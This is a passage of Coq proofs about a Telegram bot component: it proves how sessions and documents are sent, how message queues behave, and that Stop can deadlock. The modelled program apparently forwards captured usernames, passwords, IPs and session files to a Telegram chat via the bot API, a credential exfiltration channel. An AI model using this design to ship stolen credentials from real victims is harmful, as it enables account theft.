  destruct (client_Do E _ _) as [err|code]; [reflexivity|].
  destruct (code =? StatusOK)%Z; [|reflexivity].
  cbn [snd]. now rewrite (proj1 (os_Remove_frame filePath _)).
Qed.

End Documents.

(** X9. [SendDocument] makes at most one request and writes neither to the
    log nor to the message queue's delivery record.  When it makes a request,
    the file was there and the request is a multipart post to the address
    built from the token: first the file under the field "document", named by
    the base name of the path, then the chat id, and, only when a caption is
    given, the caption and the parse mode Markdown. *)
Theorem SendDocument_request (E : Env) (t : TelegramBot) (filePath caption : string)
    (w : World) :
  sendCalls (snd (SendDocument E t filePath caption w)) = sendCalls w /\
  warnings (snd (SendDocument E t filePath caption w)) = warnings w /\
  (posted (snd (SendDocument E t filePath caption w)) = posted w \/
   exists content,
     files w !! filePath = Some content /\
     posted (snd (SendDocument E t filePath caption w)) =
     (posted w ++
      [mkRequest ("https://api.telegram.org/bot" ++ botToken t ++ "/sendDocument")
         (FormDataContentType E)
         (Multipart
            (FormFile "document" (filepath_Base E filePath) content ::
             FormField "chat_id" (chatID t) ::
             (if String.eqb caption "" then []
              else [FormField "caption" caption; FormField "parse_mode" "Markdown"])))])%list).
Proof.
  destruct (SendDocument_cases E t filePath caption w) as (Hcalls & Hwarn & Hreq).
  split; [exact Hcalls|]. split; [exact Hwarn|].
  destruct Hreq as [(Hposted & _)|(content & _ & Hfile & Hposted & _)]; [now left|].
  right. exists content. split; [exact Hfile|]. rewrite Hposted.
  unfold sendDocumentURL, expectedFields. now destruct (String.eqb caption "").
Qed.

(** X10. A file that can be removed is sent once, one that cannot be
    removed can be sent again.  After a [SendDocument] that returned [nil]:
    if [os.Remove] succeeded, a second call for the same path, with any
    caption, fails with the error of [os.Open], makes no request and changes
    nothing; if [os.Remove] failed, the file is still there, and a second
    call with the same caption hands the same request to the client once
    more. *)
Theorem SendDocument_twice (E : Env) (t : TelegramBot) (filePath caption : string)
    (w w' : World)
    (Hsent : SendDocument E t filePath caption w = (None, w')) :
  (os_Remove_err E filePath = None ->
     forall caption',
       SendDocument E t filePath caption' w' = (Some (os_Open E filePath), w')) /\
  (is_Some (os_Remove_err E filePath) ->
     files w' = files w /\
     exists req,
       posted w' = (posted w ++ [req])%list /\
       posted (snd (SendDocument E t filePath caption w')) = (posted w' ++ [req])%list).
Proof.
  destruct (SendDocument_cases E t filePath caption w) as (_ & _ & Hreq).
  rewrite Hsent in Hreq. cbn [fst snd] in Hreq.
  destruct Hreq as [(_ & _ & Hne)|(content & Hcfg & Hfile & _ & Hfiles)];
    [congruence|].
  specialize (Hfiles eq_refl). split.
  - intros Hrm caption'. rewrite Hrm in Hfiles.
    unfold SendDocument. rewrite Hcfg, Hfiles, lookup_delete_eq. reflexivity.
  - intros [err Hrm]. rewrite Hrm in Hfiles. split; [exact Hfiles|].
    assert (Hnil : fst (SendDocument E t filePath caption w) = None) by now rewrite Hsent.
    apply SendDocument_nil in Hnil.
    destruct Hnil as (Hon & c & fields & Hc & Hform & Hcopy & Hfields & Hclose & Hbuild & _).
    exists (documentRequest E t filePath c fields). split.
    + change w' with (snd (@None error, w')). rewrite <- Hsent.
      now apply SendDocument_posts.
    + apply SendDocument_posts; auto. now rewrite Hfiles.
Qed.

Lemma SendDocument_twice_witness :
  (forall caption',
     SendDocument quietEnv (sampleBot [] []) "/tmp/session_1.json" caption'
       (snd (SendDocument quietEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld))
     = (Some "open: no such file or directory",
        snd (SendDocument quietEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld))) /\
  (files (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld))
   = files fileWorld /\
   exists req,
     posted (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" ""
                    fileWorld)) = (posted fileWorld ++ [req])%list /\
     posted (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" ""
                    (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" ""
                            fileWorld)))) =
     (posted (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" ""
                     fileWorld)) ++ [req])%list).
Proof.
  assert (Hfile : files fileWorld !! "/tmp/session_1.json" = Some "{}")
    by (unfold fileWorld; cbn [files setFiles]; apply lookup_insert_eq).
  split.
  - apply (SendDocument_twice quietEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld
             (snd (SendDocument quietEnv (sampleBot [] []) "/tmp/session_1.json" ""
                     fileWorld))); [|reflexivity].
    unfold SendDocument. cbn [notConfigured sampleBot enabled botToken chatID negb orb].
    rewrite Hfile. reflexivity.
  - apply (SendDocument_twice stickyEnv (sampleBot [] []) "/tmp/session_1.json" "" fileWorld
             (snd (SendDocument stickyEnv (sampleBot [] []) "/tmp/session_1.json" ""
                     fileWorld))); [|eexists; reflexivity].
    unfold SendDocument. cbn [notConfigured sampleBot enabled botToken chatID negb orb].
    rewrite Hfile. reflexivity.
Defined.

(** X11. The upload that [SendSessionFile] starts on a configured bot is
    [SendDocument] for the given path with a caption that is never empty, so
    its request, if it comes to one, always carries the caption and the parse
    mode Markdown behind the file and the chat id. *)
Theorem SendSessionFile_caption (E : Env) (t : TelegramBot) (sessionID : Z)
    (filePath username password ip domain : string) (w : World)
    (Hon : IsEnabled t = true) :
  exists caption,
    SendSessionFile sessionID filePath username password ip domain t
      = Some (filePath, caption) /\
    caption <> "" /\
    (posted (snd (SendDocument E t filePath caption w)) = posted w \/
     exists content,
       files w !! filePath = Some content /\
       posted (snd (SendDocument E t filePath caption w)) =
       (posted w ++
        [mkRequest ("https://api.telegram.org/bot" ++ botToken t ++ "/sendDocument")
           (FormDataContentType E)
           (Multipart
              [FormFile "document" (filepath_Base E filePath) content;
               FormField "chat_id" (chatID t);
               FormField "caption" caption;
               FormField "parse_mode" "Markdown"])])%list).
Proof.
  exists (sessionFileCaption sessionID username password ip domain).
  assert (Hne : String.eqb (sessionFileCaption sessionID username password ip domain) ""
                = false) by reflexivity.
  split; [unfold SendSessionFile; now rewrite (notConfigured_false t Hon)|].
  split; [intros Heq; rewrite Heq in Hne; discriminate|].
  destruct (SendDocument_cases E t filePath
              (sessionFileCaption sessionID username password ip domain) w)
    as (_ & _ & [(Hposted & _)|(content & _ & Hfile & Hposted & _)]); [now left|].
  right. exists content. split; [exact Hfile|]. rewrite Hposted.
  unfold sendDocumentURL, expectedFields. now rewrite Hne.
Qed.

Lemma SendSessionFile_caption_witness :
  exists caption,
    SendSessionFile 1 "/tmp/session_1.json" "alice" "s3cret!" "10.0.0.1" "example.com"
      (sampleBot [] []) = Some ("/tmp/session_1.json", caption) /\
    caption <> "" /\
    (posted (snd (SendDocument quietEnv (sampleBot [] []) "/tmp/session_1.json" caption
                    fileWorld)) = posted fileWorld \/
     exists content,
       files fileWorld !! "/tmp/session_1.json" = Some content /\
       posted (snd (SendDocument quietEnv (sampleBot [] []) "/tmp/session_1.json" caption
                      fileWorld)) =
       (posted fileWorld ++
        [mkRequest ("https://api.telegram.org/bot" ++ botToken (sampleBot [] [])
                    ++ "/sendDocument")
           (FormDataContentType quietEnv)
           (Multipart
              [FormFile "document" (filepath_Base quietEnv "/tmp/session_1.json") content;
               FormField "chat_id" (chatID (sampleBot [] []));
               FormField "caption" caption;
               FormField "parse_mode" "Markdown"])])%list).
Proof.
  apply (SendSessionFile_caption quietEnv (sampleBot [] []) 1 "/tmp/session_1.json"
           "alice" "s3cret!" "10.0.0.1" "example.com" fileWorld).
  reflexivity.
Defined.

(** ** Runs of the bot *)

Section Runs.

Variable E : Env.

Lemma handle_frame (t : TelegramBot) (msg : option TelegramMessage) (w : World) :
  files (handle E t msg w) = files w /\ warnings (handle E t msg w) = warnings w.
Proof.
  destruct msg as [m|]; cbn [handle]; [|auto].
  destruct (sendMessage_frame E t m w) as (Hf & Hw & _). auto.
Qed.

(** A worker step is its effect on the bot together with the handling of
    the element taken. *)
Lemma messageWorker_effect (i : nat) (pickStop : bool) (s : State) :
  messageWorker E i pickStop s =
  match workerEffect i pickStop (bot s) with
  | None => None
  | Some (t', None) => Some (mkState t' (world s))
  | Some (t', Some msg) => Some (mkState t' (handle E (bot s) msg (world s)))
  end.
Proof.
  unfold messageWorker, workerEffect.
  destruct (workers (bot s) !! i) as [[]|]; [| | |reflexivity|reflexivity].
  - destruct (recv (msgQueue (bot s))) as [[msg q]|], (stopChan (bot s));
      try reflexivity. now destruct pickStop.
  - now destruct (0 <? len (msgQueue (bot s)))%nat.
  - now destruct (recv (msgQueue (bot s))) as [[msg q]|].
Qed.

(** A worker step changes neither the configuration nor the stop channel. *)
Lemma workerEffect_config (i : nat) (pickStop : bool) (t t' : TelegramBot)
    (taken : option (option TelegramMessage)) :
  workerEffect i pickStop t = Some (t', taken) ->
  botToken t' = botToken t /\ chatID t' = chatID t /\ enabled t' = enabled t /\
  stopChan t' = stopChan t.
Proof.
  unfold workerEffect.
  destruct (workers t !! i) as [[]|]; [| | | |discriminate].
  - destruct (recv (msgQueue t)) as [[msg q]|], (stopChan t) eqn:Hs;
      try discriminate; [destruct pickStop| |]; intros [= <- <-]; cbn; auto.
  - destruct (0 <? len (msgQueue t))%nat; intros [= <- <-]; cbn; auto.
  - destruct (recv (msgQueue t)) as [[msg q]|]; [|discriminate].
    intros [= <- <-]; cbn; auto.
  - intros [= <- <-]; cbn; auto.
Qed.

Lemma exec_frame (a : Action) (s s' : State) :
  ~ isEmission a -> exec E a s = Some s' ->
  files (world s') = files (world s) /\ warnings (world s') = warnings (world s).
Proof.
  intros Ha. destruct a; cbn in Ha; try tauto; cbn [exec].
  - now intros [= <-].
  - now intros [= <-].
  - destruct (stopChan (bot s)); [discriminate|]. now intros [= <-].
  - rewrite messageWorker_effect.
    destruct (workerEffect i pickStop (bot s)) as [[t' [msg|]]|]; [| |discriminate];
      intros [= <-]; cbn [world]; [apply handle_frame | auto].
Qed.

Lemma exec_config (a : Action) (s s' : State) :
  ~ isSetConfig a -> exec E a s = Some s' -> IsEnabled (bot s') = IsEnabled (bot s).
Proof.
  intros Ha. destruct a; cbn in Ha; try tauto; cbn [exec].
  - intros [= <-]. unfold SendCredentials, offer.
    destruct (notConfigured (bot s)); [reflexivity|]. now destruct (send _ _).
  - intros [= <-]. unfold SendSessionUpdate, offer.
    destruct (notConfigured (bot s)); [reflexivity|]. now destruct (send _ _).
  - intros [= <-]. cbn. unfold Start. now destruct (notConfigured (bot s)).
  - destruct (stopChan (bot s)); [discriminate|]. now intros [= <-].
  - rewrite messageWorker_effect.
    destruct (workerEffect i pickStop (bot s)) as [[t' taken]|] eqn:Heff; [|discriminate].
    destruct (workerEffect_config _ _ _ _ _ Heff) as (Ht & Hc & He & _).
    destruct taken; intros [= <-]; cbn [bot]; unfold IsEnabled; now rewrite Ht, Hc, He.
Qed.

Lemma exec_stop_closed (a : Action) (s s' : State) :
  stopChan (bot s) = true -> exec E a s = Some s' -> stopChan (bot s') = true.
Proof.
  intros Hstop. destruct a; cbn [exec].
  - intros [= <-]. unfold SendCredentials, offer.
    destruct (notConfigured (bot s)); [exact Hstop|]. now destruct (send _ _).
  - intros [= <-]. unfold SendSessionUpdate, offer.
    destruct (notConfigured (bot s)); [exact Hstop|]. now destruct (send _ _).
  - now intros [= <-].
  - intros [= <-]. cbn. unfold Start. now destruct (notConfigured (bot s)).
  - now rewrite Hstop.
  - rewrite messageWorker_effect.
    destruct (workerEffect i pickStop (bot s)) as [[t' taken]|] eqn:Heff; [|discriminate].
    destruct (workerEffect_config _ _ _ _ _ Heff) as (_ & _ & _ & Hs).
    destruct taken; intros [= <-]; cbn [bot]; congruence.
Qed.

Lemma wgWait_stop_closed (sched : list Action) (s s' : State) :
  stopChan (bot s) = true -> wgWait E sched s = Some s' -> stopChan (bot s') = true.
Proof.
  revert s. induction sched as [|a rest IH]; intros s Hstop; cbn [wgWait];
    destruct (workers (bot s)); try discriminate; try (intros [= <-]; exact Hstop).
  destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate].
  apply IH. now apply (exec_stop_closed a s).
Qed.

(** No step but [Start] adds a worker. *)
Lemma workerEffect_workers (i : nat) (pickStop : bool) (t t' : TelegramBot)
    (taken : option (option TelegramMessage)) :
  workerEffect i pickStop t = Some (t', taken) ->
  (length (workers t') <= length (workers t))%nat.
Proof.
  unfold workerEffect.
  destruct (workers t !! i) as [[]|] eqn:Hi; [| | | |discriminate].
  - destruct (recv (msgQueue t)) as [[msg q]|], (stopChan t);
      try discriminate; [destruct pickStop| |]; intros [= <- <-]; cbn;
      rewrite ?length_insert; lia.
  - destruct (0 <? len (msgQueue t))%nat; intros [= <- <-]; cbn;
      rewrite length_insert; lia.
  - destruct (recv (msgQueue t)) as [[msg q]|]; [|discriminate].
    intros [= <- <-]; cbn. rewrite length_insert. lia.
  - intros [= <- <-]; cbn. rewrite length_delete by eauto. lia.
Qed.

Lemma exec_lone (a : Action) (s s' : State) :
  ~ isStart a -> exec E a s = Some s' -> loneWorker (bot s) -> loneWorker (bot s').
Proof.
  unfold loneWorker. intros Ha. destruct a; cbn in Ha; try tauto; cbn [exec].
  - intros [= <-]. unfold SendCredentials. destruct (notConfigured (bot s)); [auto|].
    now rewrite (proj1 (offer_beside _ s)).
  - intros [= <-]. unfold SendSessionUpdate. destruct (notConfigured (bot s)); [auto|].
    now rewrite (proj1 (offer_beside _ s)).
  - now intros [= <-].
  - destruct (stopChan (bot s)); [discriminate|]. now intros [= <-].
  - rewrite messageWorker_effect.
    destruct (workerEffect i pickStop (bot s)) as [[t' taken]|] eqn:Heff; [|discriminate].
    apply workerEffect_workers in Heff.
    destruct taken; intros [= <-]; cbn [bot]; lia.
Qed.

Lemma run_lone (acts : list Action) (s s' : State) :
  Forall (fun a => ~ isStart a) acts -> run E acts s = Some s' ->
  loneWorker (bot s) -> loneWorker (bot s').
Proof.
  intros Hacts. revert s. induction Hacts as [|a rest Ha _ IH]; intros s; cbn [run].
  - now intros [= <-].
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate].
    intros Hrun Hlone. apply (IH s1 Hrun). now apply (exec_lone a s).
Qed.

(** Without a worker nothing but [Start] and the emissions can change the
    bot, and nothing is handed to [sendMessage]. *)
Lemma exec_no_worker (a : Action) (s s' : State) :
  workers (bot s) = [] -> ~ isStart a -> exec E a s = Some s' ->
  workers (bot s') = [] /\ ~ isWorkerStep a /\
  sendCalls (world s') = sendCalls (world s) /\ posted (world s') = posted (world s).
Proof.
  intros Hws Ha. destruct a; cbn in Ha; try tauto; cbn [exec].
  - intros [= <-]. unfold SendCredentials, offer.
    destruct (notConfigured (bot s)); [cbn; auto|]. destruct (send _ _); cbn; auto.
  - intros [= <-]. unfold SendSessionUpdate, offer.
    destruct (notConfigured (bot s)); [cbn; auto|]. destruct (send _ _); cbn; auto.
  - intros [= <-]. cbn. auto.
  - destruct (stopChan (bot s)); [discriminate|]. intros [= <-]. cbn. auto.
  - unfold messageWorker. rewrite Hws. discriminate.
Qed.

Lemma run_no_worker (acts : list Action) (s s' : State) :
  workers (bot s) = [] -> Forall (fun a => ~ isStart a) acts -> run E acts s = Some s' ->
  workers (bot s') = [] /\
  Forall (fun a => ~ isWorkerStep a) acts /\
  sendCalls (world s') = sendCalls (world s) /\
  posted (world s') = posted (world s).
Proof.
  intros Hws Hacts. revert s Hws. induction Hacts as [|a rest Ha _ IH];
    intros s Hws; cbn [run].
  - intros [= <-]. auto.
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate]. intros Hrun.
    destruct (exec_no_worker a s s1 Hws Ha Hexec) as (Hws1 & Hnw & Hc & Hp).
    destruct (IH s1 Hws1 Hrun) as (Hws' & Hall & Hc' & Hp').
    repeat split; auto; congruence.
Qed.

End Runs.

(** X12. Without a live worker nothing is delivered: in a run that begins
    with no worker and does not call [Start], no worker step is taken, no
    message is handed to [sendMessage] and no request is made, whatever is
    emitted or configured on the way; the emissions only fill the queue. *)
Theorem no_worker_no_delivery (E : Env) (acts : list Action) (s s' : State)
    (Hws : workers (bot s) = [])
    (Hacts : Forall (fun a => ~ isStart a) acts)
    (Hrun : run E acts s = Some s') :
  workers (bot s') = [] /\
  Forall (fun a => ~ isWorkerStep a) acts /\
  sendCalls (world s') = sendCalls (world s) /\
  posted (world s') = posted (world s).
Proof. exact (run_no_worker E acts s s' Hws Hacts Hrun). Qed.

Lemma no_worker_no_delivery_witness :
  workers (bot (offer sampleMessage idleState)) = [] /\
  Forall (fun a => ~ isWorkerStep a) [sampleEvent] /\
  sendCalls (world (offer sampleMessage idleState)) = sendCalls (world idleState) /\
  posted (world (offer sampleMessage idleState)) = posted (world idleState).
Proof.
  apply (no_worker_no_delivery quietEnv [sampleEvent] idleState
           (offer sampleMessage idleState)).
  - reflexivity.
  - constructor; [cbn; tauto | constructor].
  - reflexivity.
Defined.

(** X13. With a single worker, steps other than emissions neither lose,
    duplicate nor reorder a message: in a run that starts with at most one
    worker and neither emits nor calls [Start], there is still at most one
    worker at the end, and the messages handed to [sendMessage] so far,
    followed by those still waiting, are the same list before and after,
    whatever the worker picks at its [select] and whatever is configured on
    the way. *)
Theorem messages_conserved (E : Env) (acts : list Action) (s s' : State)
    (Hlone : loneWorker (bot s))
    (Hacts : Forall (fun a => ~ isEmission a /\ ~ isStart a) acts)
    (Hrun : run E acts s = Some s') :
  loneWorker (bot s') /\
  (sendCalls (world s') ++ pending (bot s'))%list
  = (sendCalls (world s) ++ pending (bot s))%list.
Proof.
  split.
  - apply (run_lone E acts s s'); auto.
    eapply Forall_impl; [exact Hacts|]. cbn. tauto.
  - apply (run_known E acts s s'); auto.
    eapply Forall_impl; [exact Hacts|]. cbn. tauto.
Qed.

Lemma messages_conserved_witness :
  loneWorker (bot sampleAfter) /\
  (sendCalls (world sampleAfter) ++ pending (bot sampleAfter))%list
  = (sendCalls (world (offer sampleMessage
                         (mkState (Start (SetConfig "123:abc" "42" true NewTelegramBot))
                            emptyWorld)))
     ++ pending (bot (offer sampleMessage
                        (mkState (Start (SetConfig "123:abc" "42" true NewTelegramBot))
                           emptyWorld))))%list.
Proof.
  apply (messages_conserved quietEnv [AWorker 0 false]).
  - unfold loneWorker. cbn. lia.
  - constructor; [cbn; tauto | constructor].
  - reflexivity.
Defined.

(** X14. Every capture event is accounted for.  While the bot stays
    configured, the number of messages handed to [sendMessage] or waiting,
    plus the number of warnings logged, grows in a run by exactly the number
    of events emitted in it: each event is queued or warned about, none
    vanishes. *)
Theorem events_accounted (E : Env) (acts : list Action) (s s' : State)
    (Hon : IsEnabled (bot s) = true)
    (Hacts : Forall (fun a => ~ isSetConfig a) acts)
    (Hrun : run E acts s = Some s') :
  (length (sendCalls (world s')) + length (pending (bot s'))
   + length (warnings (world s')))%nat
  = (length (sendCalls (world s)) + length (pending (bot s))
     + length (warnings (world s)) + emissions acts)%nat.
Proof.
  revert s Hon Hrun. induction Hacts as [|a rest Ha _ IH]; intros s Hon; cbn [run].
  - intros [= <-]. unfold emissions. cbn. lia.
  - destruct (exec E a s) as [s1|] eqn:Hexec; [|discriminate]. intros Hrun.
    assert (Hon1 : IsEnabled (bot s1) = true)
      by now rewrite (exec_config E a s s1 Ha Hexec).
    rewrite (IH s1 Hon1 Hrun). clear IH Hrun.
    destruct (eventMessage a (bot s)) as [msg|] eqn:Hmsg.
    + assert (Hem : isEmissionb a = true) by (destruct a; cbn in *; congruence).
      unfold emissions. cbn [List.filter]. rewrite Hem. cbn [length].
      rewrite (exec_emission E a s msg Hon Hmsg) in Hexec. injection Hexec as <-.
      unfold offer, send.
      destruct (Nat.ltb_spec (len (msgQueue (bot s))) (cap (msgQueue (bot s)))).
      * unfold pending. cbn. rewrite omap_app, length_app. cbn. lia.
      * cbn. rewrite length_app. cbn. lia.
    + assert (Hne : ~ isEmission a) by (destruct a; cbn in *; try tauto; discriminate).
      assert (Hem : isEmissionb a = false) by (destruct a; cbn in *; tauto).
      unfold emissions. cbn [List.filter]. rewrite Hem.
      pose proof (exec_known E a s s1 Hne Hexec) as Hknown.
      destruct (exec_frame E a s s1 Hne Hexec) as [_ Hwarn].
      apply (f_equal (@length _)) in Hknown. unfold known in Hknown.
      rewrite !length_app in Hknown. rewrite Hwarn. lia.
Qed.

Lemma events_accounted_witness :
  (length (sendCalls (world (offer sampleMessage fullState)))
   + length (pending (bot (offer sampleMessage fullState)))
   + length (warnings (world (offer sampleMessage fullState))))%nat
  = (length (sendCalls (world fullState)) + length (pending (bot fullState))
     + length (warnings (world fullState)) + emissions [sampleEvent])%nat.
Proof.
  apply (events_accounted quietEnv [sampleEvent] fullState (offer sampleMessage fullState)).
  - reflexivity.
  - constructor; [cbn; tauto | constructor].
  - reflexivity.
Defined.

(** X15. [Stop] can be called once: after a [Stop] that returned, a second
    [Stop] does not return but fails on closing the closed stop channel,
    under every schedule. *)
Theorem Stop_twice (E : Env) (sched sched' : list Action) (s s' : State)
    (Hstopped : Stop E sched s = Some s') :
  Stop E sched' s' = None.
Proof.
  unfold Stop in *. cbn [exec] in *.
  destruct (stopChan (bot s)) eqn:Hopen; [discriminate|].
  assert (Hclosed : stopChan (bot s') = true).
  { apply (wgWait_stop_closed E sched (mkState (closeStop (bot s)) (world s)) s');
      [reflexivity | exact Hstopped]. }
  now rewrite Hclosed.
Qed.

Lemma Stop_twice_witness :
  Stop quietEnv [] (mkState (closeStop (bot idleState)) (world idleState)) = None.
Proof.
  apply (Stop_twice quietEnv [] [] idleState). reflexivity.
Defined.

(** X16. [Stop] on a bot without a worker returns at once and drains
    nothing: the stop channel is closed, the waiting messages stay in the
    queue and none is handed to [sendMessage]. *)
Theorem Stop_without_worker (E : Env) (sched : list Action) (s : State)
    (Hws : workers (bot s) = []) (Hopen : stopChan (bot s) = false) :
  exists s',
    Stop E sched s = Some s' /\
    stopChan (bot s') = true /\
    msgQueue (bot s') = msgQueue (bot s) /\
    world s' = world s.
Proof.
  exists (mkState (closeStop (bot s)) (world s)).
  unfold Stop. cbn [exec]. rewrite Hopen.
  rewrite wgWait_no_worker by exact Hws. auto.
Qed.

Lemma Stop_without_worker_witness :
  exists s',
    Stop quietEnv [] idleState = Some s' /\
    stopChan (bot s') = true /\
    msgQueue (bot s') = msgQueue (bot idleState) /\
    world s' = world idleState.
Proof.
  apply (Stop_without_worker quietEnv [] idleState); reflexivity.
Defined.

(** ** Workers *)

Section Workers.

Variable E : Env.

(** A worker step leaves the queue as it is or takes its first element. *)
Lemma workerEffect_queue (i : nat) (pickStop : bool) (t t' : TelegramBot)
    (taken : option (option TelegramMessage)) :
  workerEffect i pickStop t = Some (t', taken) ->
  cap (msgQueue t') = cap (msgQueue t) /\
  match taken with
  | None => buf (msgQueue t') = buf (msgQueue t)
  | Some msg => buf (msgQueue t) = msg :: buf (msgQueue t')
  end.
Proof.
  unfold workerEffect, recv.
  destruct (workers t !! i) as [[]|]; [| | | |discriminate].
  - destruct (buf (msgQueue t)) as [|msg q] eqn:Hbuf, (stopChan t); try discriminate;
      [| destruct pickStop |]; intros [= <- <-]; cbn; auto.
  - destruct (0 <? len (msgQueue t))%nat; intros [= <- <-]; cbn; auto.
  - destruct (buf (msgQueue t)) as [|msg q] eqn:Hbuf; [discriminate|].
    intros [= <- <-]; cbn; auto.
  - intros [= <- <-]; cbn; auto.
Qed.

(** With the stop channel closed and the queue empty, a worker at the
    receive of the drain loop cannot step, and the steps of the others leave
    it there. *)
Lemma workerEffect_stuck (i : nat) (pickStop : bool) (t t' : TelegramBot)
    (taken : option (option TelegramMessage)) :
  stopChan t = true -> buf (msgQueue t) = [] ->
  (exists j, workers t !! j = Some DrainRecv) ->
  workerEffect i pickStop t = Some (t', taken) ->
  taken = None /\ stopChan t' = true /\ buf (msgQueue t') = [] /\
  exists j, workers t' !! j = Some DrainRecv.
Proof.
  intros Hstop Hbuf [j Hj]. unfold workerEffect, recv, len. rewrite Hstop, Hbuf.
  destruct (workers t !! i) as [[]|] eqn:Hi; [| |discriminate| |discriminate].
  - intros [= <- <-]. cbn. repeat split; auto.
    exists j. rewrite list_lookup_insert_ne; [exact Hj|]. intros ->. congruence.
  - cbn. intros [= <- <-]. cbn. repeat split; auto.
    exists j. rewrite list_lookup_insert_ne; [exact Hj|]. intros ->. congruence.
  - intros [= <- <-]. cbn. repeat split; auto.
    assert (Hne : i <> j) by (intros ->; congruence).
    destruct (Nat.lt_ge_cases j i) as [Hlt|Hge].
    + exists j. now rewrite list_lookup_delete_lt.
    + destruct j as [|j]; [lia|]. exists j.
      rewrite list_lookup_delete_ge by lia. exact Hj.
Qed.

Lemma wgWait_stuck (sched : list Action) (s : State) :
  Forall isWorkerStep sched ->
  stopChan (bot s) = true -> buf (msgQueue (bot s)) = [] ->
  (exists j, workers (bot s) !! j = Some DrainRecv) ->
  wgWait E sched s = None.
Proof.
  intros Hsched. revert s. induction Hsched as [|a rest Ha _ IH];
    intros s Hstop Hbuf Hrecv.
  - cbn [wgWait]. destruct (workers (bot s)); [|reflexivity].
    destruct Hrecv as [j Hj]. discriminate.
  - assert (Hstep : wgWait E (a :: rest) s =
                    match exec E a s with
                    | Some s' => wgWait E rest s'
                    | None => None
                    end).
    { cbn [wgWait]. destruct (workers (bot s)); [|reflexivity].
      destruct Hrecv as [j Hj]. discriminate. }
    rewrite Hstep. destruct a; cbn in Ha; try contradiction. cbn [exec].
    rewrite messageWorker_effect.
    destruct (workerEffect i pickStop (bot s)) as [[t' taken]|] eqn:Heff; [|reflexivity].
    destruct (workerEffect_stuck _ _ _ _ _ Hstop Hbuf Hrecv Heff) as (-> & Hs & Hb & Hr).
    now apply IH.
Qed.

Lemma handle_posted_off (t : TelegramBot) (msg : option TelegramMessage) (w : World) :
  notConfigured t = true -> posted (handle E t msg w) = posted w.
Proof.
  intros Hoff. destruct msg as [m|]; [|reflexivity].
  cbn [handle]. unfold sendMessage. now rewrite Hoff.
Qed.

Lemma handle_posted_on (t : TelegramBot) (msg : option TelegramMessage) (w : World) :
  notConfigured t = false -> (forall m, json_Marshal E m = None) ->
  http_NewRequest E (sendMessageURL t) = None ->
  posted (handle E t msg w) = (posted w ++ map (messageRequest t) (omap id [msg]))%list.
Proof.
  intros Hon Hm Hr. destruct msg as [m|]; [|cbn; now rewrite app_nil_r].
  cbn [handle]. unfold sendMessage. fold (sendMessageURL t). rewrite Hon, Hm, Hr.
  unfold doRequest. cbn [posted logCall].
  destruct (client_Do E _ _) as [err|code]; [reflexivity|].
  now destruct (code =? StatusOK)%Z.
Qed.

End Workers.

(** X17. A worker can be left waiting forever in the drain loop.  When the
    stop channel is closed, the queue is empty and some worker stands at the
    receive of the drain loop (it saw a message that another worker then
    took), no schedule of worker steps lets the wait of [Stop] end.  Calling
    [Start] twice leads there. *)
Theorem drain_receive_blocks (E : Env) (s : State)
    (Hclosed : stopChan (bot s) = true)
    (Hempty : buf (msgQueue (bot s)) = [])
    (Hrecv : exists j, workers (bot s) !! j = Some DrainRecv) :
  forall sched, Forall isWorkerStep sched -> wgWait E sched s = None.
Proof.
  intros sched Hsched. now apply wgWait_stuck.
Qed.

Lemma drain_receive_blocks_witness :
  run quietEnv twoWorkerRun initial = Some stuckState /\
  forall sched, Forall isWorkerStep sched -> wgWait quietEnv sched stuckState = None.
Proof.
  split; [reflexivity|].
  apply (drain_receive_blocks quietEnv stuckState); [reflexivity | reflexivity |].
  exists 0%nat. reflexivity.
Defined.

Section Answers.

Variables E1 E2 : Env.

Lemma answerFree_eq (s t : State) :
  answerFree s = answerFree t <->
  bot s = bot t /\ files (world s) = files (world t) /\
  sendCalls (world s) = sendCalls (world t) /\ warnings (world s) = warnings (world t).
Proof.
  unfold answerFree. split.
  - intros [= Hb Hf Hc Hw]. auto.
  - intros (-> & -> & -> & ->). reflexivity.
Qed.

Lemma offer_answerFree (msg : TelegramMessage) (s t : State) :
  answerFree s = answerFree t -> answerFree (offer msg s) = answerFree (offer msg t).
Proof.
  intros H. apply answerFree_eq in H. destruct H as (Hb & Hf & Hc & Hw).
  apply answerFree_eq. unfold offer. rewrite Hb.
  destruct (send (Some msg) (msgQueue (bot t))); cbn; rewrite ?Hw; auto.
Qed.

Lemma exec_answerFree (a : Action) (s t s1 : State) :
  answerFree s = answerFree t -> exec E1 a s = Some s1 ->
  exists t1, exec E2 a t = Some t1 /\ answerFree s1 = answerFree t1.
Proof.
  intros Hst. pose proof Hst as Heq. apply answerFree_eq in Heq.
  destruct Heq as (Hb & Hf & Hc & Hw).
  destruct a; cbn [exec].
  - intros [= <-]. eexists. split; [reflexivity|].
    unfold SendCredentials. rewrite Hb.
    destruct (notConfigured (bot t)); [exact Hst|]. rewrite <- Hb at 1.
    rewrite Hb. now apply offer_answerFree.
  - intros [= <-]. eexists. split; [reflexivity|].
    unfold SendSessionUpdate. rewrite Hb.
    destruct (notConfigured (bot t)); [exact Hst|]. now apply offer_answerFree.
  - intros [= <-]. eexists. split; [reflexivity|].
    apply answerFree_eq. cbn. rewrite Hb. auto.
  - intros [= <-]. eexists. split; [reflexivity|].
    apply answerFree_eq. cbn. rewrite Hb. auto.
  - rewrite Hb. destruct (stopChan (bot t)); [discriminate|].
    intros [= <-]. eexists. split; [reflexivity|].
    apply answerFree_eq. cbn. auto.
  - rewrite !messageWorker_effect, Hb.
    destruct (workerEffect i pickStop (bot t)) as [[t' [msg|]]|]; [| |discriminate];
      intros [= <-]; eexists; (split; [reflexivity|]); apply answerFree_eq; cbn [bot world].
    + destruct (handle_frame E1 (bot t) msg (world s)) as [Hf1 Hw1].
      destruct (handle_frame E2 (bot t) msg (world t)) as [Hf2 Hw2].
      rewrite !handle_sendCalls, Hf1, Hf2, Hw1, Hw2, Hc. auto.
    + auto.
Qed.

Lemma run_answerFree (acts : list Action) (s t s1 : State) :
